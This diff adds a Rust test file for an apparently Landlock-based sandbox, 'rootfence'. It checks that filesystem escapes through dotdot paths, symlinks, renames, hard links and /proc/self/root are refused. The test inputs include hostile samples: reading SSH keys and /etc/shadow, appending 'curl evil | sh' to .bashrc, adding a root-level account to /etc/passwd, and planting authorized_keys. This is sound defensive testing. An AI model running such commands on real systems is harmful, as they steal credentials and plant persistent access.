@@ -1,0 +1,486 @@
+//! Filesystem escapes: each test runs a real program through `rootfence
+//! exec` and asserts that the escape is refused with the specific error,
+//! and that the allowed counterpart works.
+
+mod common;
+
+use common::{SECRET, Tree, content};
+
+#[test]
+fn dotdot_out_of_a_root_is_refused() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('inside', lambda: read('{r}/inside'))\n\
+             check('dotdot', lambda: read('{r}/../outside/secret'))\n\
+             check('dotdot_deep', lambda: read('{r}/../../../../{o}/secret'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect("inside", "OK")
+    .expect("dotdot", "EACCES")
+    .expect("dotdot_deep", "EACCES");
+}
+
+#[test]
+fn sibling_with_the_root_as_prefix_is_refused() {
+    let t = Tree::new();
+    let evil = t.s("r_evil");
+    t.py(
+        &[],
+        &format!(
+            "check('read', lambda: read('{evil}/secret'))\n\
+             check('create', lambda: write('{evil}/new'))\n\
+             check('list', lambda: os.listdir('{evil}'))"
+        ),
+    )
+    .expect("read", "EACCES")
+    .expect("create", "EACCES")
+    .expect("list", "EACCES");
+    assert!(!t.p("r_evil/new").exists());
+}
+
+#[test]
+fn symlink_to_a_file_outside_cannot_be_read() {
+    let t = Tree::new();
+    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
+    t.py(
+        &[],
+        &format!("check('read', lambda: read('{r}/link'))", r = t.r.display()),
+    )
+    .expect("read", "EACCES");
+}
+
+#[test]
+fn symlink_to_a_file_outside_cannot_be_written() {
+    let t = Tree::new();
+    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('append', lambda: write('{r}/link', 'pwned', 'a'))\n\
+             check('truncate', lambda: os.truncate('{r}/link', 0))",
+            r = t.r.display()
+        ),
+    )
+    .expect("append", "EACCES")
+    .expect("truncate", "EACCES");
+    assert_eq!(content(&t.outside.join("secret")), SECRET);
+}
+
+#[test]
+fn symlink_to_a_directory_outside_cannot_be_listed_or_read() {
+    let t = Tree::new();
+    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('list', lambda: os.listdir('{r}/dlink'))\n\
+             check('read', lambda: read('{r}/dlink/secret'))",
+            r = t.r.display()
+        ),
+    )
+    .expect("list", "EACCES")
+    .expect("read", "EACCES");
+}
+
+#[test]
+fn symlink_to_a_directory_outside_cannot_be_created_through() {
+    let t = Tree::new();
+    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('create', lambda: write('{r}/dlink/planted'))\n\
+             check('mkdir', lambda: os.mkdir('{r}/dlink/d'))",
+            r = t.r.display()
+        ),
+    )
+    .expect("create", "EACCES")
+    .expect("mkdir", "EACCES");
+    assert!(!t.outside.join("planted").exists());
+    assert!(!t.outside.join("d").exists());
+}
+
+#[test]
+fn dangling_symlink_pointing_outside_cannot_be_written_through() {
+    let t = Tree::new();
+    let target = t.outside.join("created-through-dangling-link");
+    std::os::unix::fs::symlink(&target, t.r.join("dangling")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('create', lambda: write('{r}/dangling', 'pwned'))",
+            r = t.r.display()
+        ),
+    )
+    .expect("create", "EACCES");
+    assert!(!target.exists());
+}
+
+#[test]
+fn symlink_made_at_run_time_pointing_outside_gives_nothing() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('symlink', lambda: os.symlink('{o}/secret', '{r}/made'))\n\
+             check('read', lambda: read('{r}/made'))\n\
+             check('write', lambda: write('{r}/made', 'pwned', 'a'))\n\
+             check('dirlink', lambda: os.symlink('{o}', '{r}/madedir'))\n\
+             check('dirread', lambda: os.listdir('{r}/madedir'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    // Making the link itself is allowed: it is a file inside the root.
+    .expect("symlink", "OK")
+    .expect("read", "EACCES")
+    .expect("write", "EACCES")
+    .expect("dirlink", "OK")
+    .expect("dirread", "EACCES");
+    assert_eq!(content(&t.outside.join("secret")), SECRET);
+}
+
+// Landlock refuses cross-hierarchy renames and links with EXDEV when the
+// refer right is what is missing and with EACCES when the make/remove
+// rights are; both are refusals by the sandbox.
+const REFUSED_LINK: &[&str] = &["EACCES", "EXDEV"];
+
+#[test]
+fn rename_out_of_a_root_is_refused() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('rename', lambda: os.rename('{r}/inside', '{o}/moved'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect_any("rename", REFUSED_LINK);
+    assert!(t.r.join("inside").exists());
+    assert!(!t.outside.join("moved").exists());
+}
+
+#[test]
+fn rename_into_a_root_is_refused() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('rename', lambda: os.rename('{o}/secret', '{r}/stolen'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect_any("rename", REFUSED_LINK);
+    assert_eq!(content(&t.outside.join("secret")), SECRET);
+    assert!(!t.r.join("stolen").exists());
+}
+
+#[test]
+fn rename_of_a_directory_out_of_a_root_is_refused() {
+    let t = Tree::new();
+    std::fs::create_dir(t.r.join("sub")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('rename', lambda: os.rename('{r}/sub', '{o}/sub'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect_any("rename", REFUSED_LINK);
+    assert!(t.r.join("sub").is_dir());
+}
+
+#[test]
+fn hard_link_out_of_a_root_is_refused() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('link', lambda: os.link('{r}/inside', '{o}/linked'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect_any("link", REFUSED_LINK);
+    assert!(!t.outside.join("linked").exists());
+}
+
+#[test]
+fn hard_link_of_an_outside_file_into_a_root_is_refused() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('link', lambda: os.link('{o}/secret', '{r}/stolen'))\n\
+             check('read', lambda: read('{r}/stolen'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect_any("link", REFUSED_LINK)
+    .expect("read", "ENOENT");
+}
+
+#[test]
+fn read_only_root_refuses_creating_files() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('read', lambda: read('{ro}/file'))\n\
+             check('create', lambda: write('{ro}/new'))\n\
+             check('fifo', lambda: os.mkfifo('{ro}/fifo'))\n\
+             check('symlink', lambda: os.symlink('/', '{ro}/l'))",
+            ro = t.ro.display()
+        ),
+    )
+    .expect("read", "OK")
+    .expect("create", "EACCES")
+    .expect("fifo", "EACCES")
+    .expect("symlink", "EACCES");
+    assert!(!t.ro.join("new").exists());
+}
+
+#[test]
+fn read_only_root_refuses_writing_existing_files() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('rplus', lambda: open('{ro}/file', 'r+'))\n\
+             check('append', lambda: write('{ro}/file', 'x', 'a'))",
+            ro = t.ro.display()
+        ),
+    )
+    .expect("rplus", "EACCES")
+    .expect("append", "EACCES");
+    assert_eq!(content(&t.ro.join("file")), "read-only content");
+}
+
+#[test]
+fn read_only_root_refuses_truncation() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('truncate', lambda: os.truncate('{ro}/file', 0))\n\
+             check('o_trunc', lambda: os.open('{ro}/file', os.O_RDONLY | os.O_TRUNC))",
+            ro = t.ro.display()
+        ),
+    )
+    .expect("truncate", "EACCES")
+    .expect("o_trunc", "EACCES");
+    assert_eq!(content(&t.ro.join("file")), "read-only content");
+}
+
+#[test]
+fn read_only_root_refuses_unlink() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('unlink', lambda: os.unlink('{ro}/file'))",
+            ro = t.ro.display()
+        ),
+    )
+    .expect("unlink", "EACCES");
+    assert!(t.ro.join("file").exists());
+}
+
+#[test]
+fn read_only_root_refuses_mkdir_and_rename() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('mkdir', lambda: os.mkdir('{ro}/d'))\n\
+             check('rename', lambda: os.rename('{ro}/file', '{ro}/renamed'))",
+            ro = t.ro.display()
+        ),
+    )
+    .expect("mkdir", "EACCES")
+    .expect("rename", "EACCES");
+    assert!(t.ro.join("file").exists());
+}
+
+#[test]
+fn read_write_root_allows_everything_a_server_needs() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('create', lambda: write('{r}/a', 'hello'))\n\
+             check('read', lambda: read('{r}/a'))\n\
+             check('append', lambda: write('{r}/a', '!', 'a'))\n\
+             check('truncate', lambda: os.truncate('{r}/a', 1))\n\
+             check('mkdir', lambda: os.makedirs('{r}/d/e'))\n\
+             check('rename', lambda: os.rename('{r}/a', '{r}/d/e/b'))\n\
+             check('link', lambda: os.link('{r}/d/e/b', '{r}/c'))\n\
+             check('symlink', lambda: os.symlink('d/e/b', '{r}/s'))\n\
+             check('via_symlink', lambda: read('{r}/s'))\n\
+             check('fifo', lambda: os.mkfifo('{r}/fifo'))\n\
+             check('chmod', lambda: os.chmod('{r}/c', 0o640))\n\
+             check('unlink', lambda: os.unlink('{r}/c'))\n\
+             check('rmdir', lambda: (os.unlink('{r}/d/e/b'), os.rmdir('{r}/d/e')))\n\
+             check('list', lambda: os.listdir('{r}'))",
+            r = t.r.display()
+        ),
+    )
+    .success()
+    .expect("create", "OK")
+    .expect("read", "OK")
+    .expect("append", "OK")
+    .expect("truncate", "OK")
+    .expect("mkdir", "OK")
+    .expect("rename", "OK")
+    .expect("link", "OK")
+    .expect("symlink", "OK")
+    .expect("via_symlink", "OK")
+    .expect("fifo", "OK")
+    .expect("chmod", "OK")
+    .expect("unlink", "OK")
+    .expect("rmdir", "OK")
+    .expect("list", "OK");
+}
+
+#[test]
+fn home_directory_secrets_are_not_readable() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        "home = os.environ['HOME']\n\
+         check('ssh_key', lambda: read(home + '/.ssh/id_rsa'))\n\
+         check('ssh_dir', lambda: os.listdir(home + '/.ssh'))\n\
+         check('bashrc', lambda: read(home + '/.bashrc'))\n\
+         check('home', lambda: os.listdir(home))\n\
+         check('tilde', lambda: read(os.path.expanduser('~/.ssh/id_rsa')))",
+    )
+    .expect("ssh_key", "EACCES")
+    .expect("ssh_dir", "EACCES")
+    .expect("bashrc", "EACCES")
+    .expect("home", "EACCES")
+    .expect("tilde", "EACCES");
+}
+
+#[test]
+fn home_directory_cannot_be_written() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        "home = os.environ['HOME']\n\
+         check('bashrc', lambda: write(home + '/.bashrc', 'curl evil | sh', 'a'))\n\
+         check('plant', lambda: write(home + '/.profile', 'x'))\n\
+         check('authorized_keys', lambda: write(home + '/.ssh/authorized_keys', 'ssh-rsa AAA'))",
+    )
+    .expect("bashrc", "EACCES")
+    .expect("plant", "EACCES")
+    .expect("authorized_keys", "EACCES");
+    assert_eq!(content(&t.home.join(".bashrc")), SECRET);
+    assert!(!t.home.join(".profile").exists());
+}
+
+#[test]
+fn etc_cannot_be_written_and_shadow_not_read() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        "check('create', lambda: write('/etc/rootfence-escape-test'))\n\
+         check('passwd', lambda: write('/etc/passwd', 'evil::0:0::/:/bin/sh\\n', 'a'))\n\
+         check('read_passwd', lambda: read('/etc/passwd'))\n\
+         check('shadow', lambda: read('/etc/shadow'))\n\
+         check('hostname', lambda: read('/etc/hostname'))",
+    )
+    .expect("create", "EACCES")
+    .expect("passwd", "EACCES")
+    // /etc/passwd is a runtime file (user names); it is read-only.
+    .expect("read_passwd", "OK")
+    .expect("shadow", "EACCES")
+    .expect("hostname", "EACCES");
+    assert!(!std::path::Path::new("/etc/rootfence-escape-test").exists());
+}
+
+#[test]
+fn usr_cannot_be_written() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        "check('create', lambda: write('/usr/rootfence-escape-test'))\n\
+         check('bin', lambda: write('/usr/local/bin/rootfence-escape-test'))\n\
+         check('python', lambda: open('/usr/bin/env', 'r+b'))\n\
+         check('unlink', lambda: os.unlink('/usr/bin/true'))",
+    )
+    .expect("create", "EACCES")
+    .expect("bin", "EACCES")
+    .expect("python", "EACCES")
+    .expect("unlink", "EACCES");
+    assert!(!std::path::Path::new("/usr/rootfence-escape-test").exists());
+}
+
+#[test]
+fn proc_self_root_does_not_reach_outside() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('outside', lambda: read('/proc/self/root{o}/secret'))\n\
+             check('home', lambda: read('/proc/self/root' + os.environ['HOME'] + '/.ssh/id_rsa'))\n\
+             check('inside', lambda: read('/proc/self/root{r}/inside'))\n\
+             check('own_status', lambda: read('/proc/self/status'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect("outside", "EACCES")
+    .expect("home", "EACCES")
+    .expect("inside", "OK")
+    .expect("own_status", "OK");
+}
+
+#[test]
+fn setuid_chmod_is_refused_everywhere() {
+    let t = Tree::new();
+    t.py(
+        &[],
+        &format!(
+            "check('suid_outside', lambda: os.chmod('{o}/secret', 0o4755))\n\
+             check('sgid_inside', lambda: os.chmod('{r}/inside', 0o2755))\n\
+             check('world_writable', lambda: os.chmod('{o}/secret', 0o666))\n\
+             check('plain_inside', lambda: os.chmod('{r}/inside', 0o755))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect("suid_outside", "EPERM")
+    .expect("sgid_inside", "EPERM")
+    .expect("world_writable", "EPERM")
+    .expect("plain_inside", "OK");
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(t.outside.join("secret"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o6002, 0);
+}
+
+#[test]
+fn device_nodes_cannot_be_made_in_a_root() {
+    let t = Tree::new();
+    // A block device for the first disk would give the whole disk.
+    t.py(
+        &[],
+        &format!(
+            "check('block', lambda: os.mknod('{r}/disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0)))\n\
+             check('char', lambda: os.mknod('{r}/mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)))",
+            r = t.r.display()
+        ),
+    )
+    .expect("block", "EACCES")
+    .expect("char", "EACCES");
+}
